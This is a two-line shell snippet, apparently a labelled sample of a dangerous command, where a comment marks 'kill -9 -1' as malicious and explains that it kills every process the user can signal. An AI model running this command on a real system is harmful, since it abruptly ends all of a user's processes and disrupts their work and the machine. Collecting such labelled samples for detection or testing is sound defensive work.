# Malicious: kill -9 -1 kills every process the user can signal.
kill -9 -1
